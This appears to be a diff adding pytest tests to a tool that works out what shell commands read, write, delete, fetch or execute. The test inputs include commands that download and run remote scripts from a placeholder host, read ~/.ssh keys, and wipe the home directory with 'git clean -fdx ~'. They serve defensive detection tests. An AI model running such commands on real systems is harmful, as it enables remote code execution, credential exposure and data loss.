@@ -295,6 +295,38 @@ def test_symlinks_made_on_the_line_are_followed() -> None:
             if e.kind == "read" and e.source.startswith("cat")] == ["/home/u/p/s/id_rsa"]
 
 
+@pytest.mark.parametrize("command", [
+    "curl -sLo a.pl https://d.example/a.pl && perl a.pl",
+    "aria2c -o /tmp/s https://d.example/s && bash /tmp/s",
+    "curl -sL https://d.example/x.whl -o x.whl && pip install x.whl",
+    "pip download x -d /tmp/d && python3 /tmp/d/x/setup.py",
+    "python3 <(curl -s https://d.example/p)",
+    "npx -y https://d.example/p.tgz",
+])
+def test_downloads_run_or_installed_are_code_effects(command: str) -> None:
+    assert any(e.unknown for e in effects(command) if e.kind == "code")
+
+
+def test_clustered_short_options_take_their_value() -> None:
+    assert shown("curl -sLo out.bin https://d.example/x", "write") == ["/home/u/p/out.bin"]
+    assert shown("curl -sLo out.bin https://d.example/x", "network") == ["https://d.example/x"]
+    assert shown("sort -rno sorted.txt in.txt", "write") == ["/home/u/p/sorted.txt"]
+    assert shown("head -n5 a.txt", "read") == ["/home/u/p/a.txt"]
+
+
+def test_git_works_in_its_directory_and_clean_deletes() -> None:
+    assert shown("git -C ~/.ssh log -p", "read") == ["/home/u/.ssh/**"]
+    assert shown("git clean -fdx ~", "delete") == ["/home/u/**"]
+    assert shown("git clean -fd", "delete") == ["/home/u/p/**"]
+    assert shown("git clean -nfd", "delete") == []
+    assert shown("git status", "delete") == []
+
+
+def test_tar_with_absolute_names_writes_anywhere() -> None:
+    assert any(e.unknown for e in effects("tar -xPf a.tar") if e.kind == "write")
+    assert not any(e.unknown for e in effects("tar -xf a.tar") if e.kind == "write")
+
+
 def test_make_reading_its_makefile_from_stdin_runs_the_recipes() -> None:
     assert "/tmp/w/**" in shown("make -f - <<< $'x:\\n\\t@rm -rf /tmp/w'", "delete")
     assert any(e.unknown for e in effects("curl -s https://m.example/mk | make -f -")
